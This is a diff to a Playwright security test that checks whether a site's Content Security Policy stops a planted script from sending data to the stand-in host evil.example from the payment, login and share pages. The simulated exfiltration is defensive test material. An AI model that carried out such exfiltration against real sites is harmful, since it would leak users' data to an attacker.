@@ -1,4 +1,4 @@
-import { chromium, type Page } from '@playwright/test';
+import { chromium, type Page, type Request } from '@playwright/test';
 import { database } from '../books.ts';
 import { startEdge, type Edge } from '../edge/start-edge.ts';
 import { expect, test } from '../fixtures.ts';
@@ -94,19 +94,22 @@ const CARRIED_OUT = [
   ['/pay-step', ['connect-src', 'connect-src', 'img-src']],
   ['/login', ['connect-src', 'connect-src', 'form-action', 'frame-src', 'img-src']],
   ['/share.html', ['connect-src', 'connect-src', 'form-action', 'frame-src', 'img-src']],
-  ['/test', ['connect-src', 'connect-src', 'form-action', 'frame-src', 'img-src']],
 ] as const;
 
 for (const [path, directives] of CARRIED_OUT) {
   test(`a planted script carries nothing out of ${path} by ${directives.join(', ')}`, ONCE, async () => {
     await visit(async (page) => {
-      const left: string[] = [];
+      const left: Request[] = [];
       page.on('request', (asked) => {
-        if (new URL(asked.url()).hostname === 'evil.example') left.push(asked.resourceType());
+        if (new URL(asked.url()).hostname === 'evil.example') left.push(asked);
       });
       await page.goto(`${edge.url}${path}`, { waitUntil: 'networkidle' });
       expect(await page.evaluate(carryOut, 'https://evil.example')).toEqual(directives);
-      expect(left).not.toContain('image');
+      // The browser names even those that it stopped itself.
+      const gone = left
+        .filter((asked) => asked.failure()?.errorText !== 'csp')
+        .map((asked) => asked.resourceType());
+      expect(gone.filter((type) => type !== 'document')).toEqual([]);
     });
   });
 }
